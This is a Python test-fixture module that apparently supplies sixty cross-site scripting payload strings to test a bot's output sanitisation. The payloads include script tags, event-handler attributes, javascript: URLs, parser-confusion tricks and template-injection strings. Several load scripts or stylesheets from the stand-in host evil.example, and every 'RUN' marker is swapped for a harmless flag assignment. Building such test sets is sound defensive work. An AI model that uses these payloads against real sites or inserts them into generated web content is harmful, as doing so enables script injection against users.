"""Sixty texts that want to run in somebody's browser (bot/docs/reliability.md W4)."""

from __future__ import annotations

_TEXTS = r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script src=//evil.example/x.js></script>
</script><script>RUN</script>
<img src=x onerror=RUN>
<img src=x onerror='RUN'>
<img src="x" onerror="RUN">
<img/src/onerror=RUN>
<image src=x onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><a xlink:href=javascript:RUN><text>x
<body onload=RUN>
<iframe src=javascript:RUN>
<iframe srcdoc='<script>parent.RUN</script>'>
<object data=javascript:RUN>
<embed src=javascript:RUN>
<a href=javascript:RUN>x</a>
<a href='java&#9;script:RUN'>x</a>
<a href=data:text/html,<script>RUN</script>>x</a>
<form action=javascript:RUN><button>x
<button formaction=javascript:RUN>x
<input autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<details open ontoggle=RUN>
<video src=x onerror=RUN>
<audio src=x onerror=RUN>
<video><source onerror=RUN>
<marquee onstart=RUN>
<math><mtext><img src=x onerror=RUN></mtext></math>
<meta http-equiv=refresh content='0;javascript:RUN'>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/x)}</style>
<div style=background:url(//evil.example/x)>
<template><script>RUN</script></template>
<noscript><p title='</noscript><img src=x onerror=RUN>'>
<title><img src=x onerror=RUN></title>
<xmp><img src=x onerror=RUN></xmp>
<!--><img src=x onerror=RUN>-->
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version='1.0'?><x onclick=RUN>
<x onmouseover=RUN>x
<div tabindex=1 onfocus=RUN id=x>
"><script>RUN</script>
'><script>RUN</script>
" onfocus=RUN autofocus x="
' onmouseover=RUN x='
javascript:RUN
{{constructor.constructor('RUN')()}}
${RUN}
{{7*7}}{% for x in () %}
\u003cscript\u003eRUN\u003c/script\u003e
&lt;script&gt;RUN&lt;/script&gt;&#60;img src=x onerror=RUN&#62;
--></style></textarea></title><svg onload=RUN>
"""
HOSTILE = tuple(one.replace("RUN", "window.ran=1") for one in _TEXTS.strip().splitlines())
